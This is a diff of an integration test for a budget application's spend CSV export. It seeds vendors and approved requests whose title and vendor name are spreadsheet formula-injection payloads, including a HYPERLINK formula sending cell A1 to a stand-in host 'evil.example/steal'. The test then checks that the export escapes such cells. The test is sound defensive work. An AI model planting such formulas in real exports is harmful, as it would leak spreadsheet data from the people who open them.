@@ -4,10 +4,8 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { demoBudget } from '../../functions/budgets/demo-data.js';
 import { SPEND_COLUMNS } from '../../functions/exports/model.js';
 import { fiscalYearOf } from '../../functions/shared/fiscal-year.js';
-import { newId } from '../../functions/shared/ids.js';
 import { PROJECT_ROOT } from '../../infra/constructs/handler-function.js';
-import { approver, insertApprovedRequest, localBudgetsDomain } from './budget-support.js';
-import { call, tokenFor } from './support.js';
+import { approvedRequest, call, createVendor, tokenFor } from './support.js';
 
 // This file works on the seeded (current) fiscal year's DIGITAL and STRATEGY lines: nobody else
 // commits there or lists their requests.
@@ -17,12 +15,12 @@ const startMonth = Number(
   ],
 );
 const seededYear = fiscalYearOf(new Date().toISOString().slice(0, 10), startMonth);
-const vendorA = newId('vendor');
-const vendorB = newId('vendor');
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';
+const HOSTILE_VENDOR = '=HYPERLINK("http://evil.example","Validation Partners")';
+let vendorA: string;
+let vendorB: string;
 
 let finance: string;
-let domain: Awaited<ReturnType<typeof localBudgetsDomain>>;
 
 /** Parses RFC 4180 CSV: quoted cells, doubled quotes, CRLF records. */
 function parseCsv(text: string): string[][] {
@@ -62,33 +60,37 @@ const cents = (amounts: string[]) =>
 
 beforeAll(async () => {
   finance = await tokenFor({ groups: ['finance'] });
-  domain = await localBudgetsDomain();
+  // Real vendors (one with a name a spreadsheet would run) and requests approved through the
+  // workflow, which commits their amounts on the seeded year's lines.
+  [vendorA, vendorB] = await Promise.all([createVendor(HOSTILE_VENDOR), createVendor('Commissioning Co')]);
+  const today = new Date().toISOString().slice(0, 10);
+  const dates = { startDate: today, endDate: today };
   const requests = await Promise.all([
-    insertApprovedRequest(domain, {
+    approvedRequest({
       businessFunction: 'DIGITAL',
-      fiscalYear: seededYear,
-      amount: '45000.00',
+      category: 'DIGITAL_DATA',
+      estimatedCost: { amount: '45000.00', currency: 'USD' },
       preferredVendorId: vendorA,
       title: HOSTILE_TITLE,
+      ...dates,
     }),
-    insertApprovedRequest(domain, {
+    approvedRequest({
       businessFunction: 'DIGITAL',
-      fiscalYear: seededYear,
-      amount: '12000.50',
+      category: 'DIGITAL_DATA',
+      estimatedCost: { amount: '12000.50', currency: 'USD' },
       preferredVendorId: vendorB,
       title: 'Commissioning, "phase 2"',
+      ...dates,
     }),
-    insertApprovedRequest(domain, {
+    approvedRequest({
       businessFunction: 'STRATEGY',
-      fiscalYear: seededYear,
-      amount: '30000.00',
+      category: 'TECH_TRANSFER',
+      estimatedCost: { amount: '30000.00', currency: 'USD' },
       preferredVendorId: vendorA,
       title: 'Tech transfer support',
+      ...dates,
     }),
   ]);
-  for (const request of requests) {
-    await domain.commitApprovedRequest(request, approver, '2026-02-03T09:00:00.000Z');
-  }
   for (const [request, invoiceNumber, amount] of [
     [requests[0]!, 'A-1', '20000.00'],
     [requests[1]!, 'B-1', '13000.00'],
@@ -162,6 +164,7 @@ describe('GET /exports/spend', () => {
     const titles = rows.map((row) => row[SPEND_COLUMNS.indexOf('title')]);
 
     expect(titles).toContain(`'${HOSTILE_TITLE}`);
+    expect(rows.map((row) => row[SPEND_COLUMNS.indexOf('vendorName')])).toContain(`'${HOSTILE_VENDOR}`);
     expect(titles).toContain('Commissioning, "phase 2"');
     expect(rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
     expect(rows.map((row) => row[SPEND_COLUMNS.indexOf('businessFunction')])).toEqual(['DIGITAL', 'DIGITAL']);
@@ -179,8 +182,9 @@ describe('GET /exports/spend', () => {
       committed: '30000.00',
       actual: '5000.25',
       remaining: '24999.75',
+      vendorName: HOSTILE_VENDOR,
       status: 'APPROVED',
-      approvalDate: '2026-02-03',
+      approvalDate: new Date().toISOString().slice(0, 10),
       invoiceCount: 1,
     });
     expect(document.totals).toEqual({
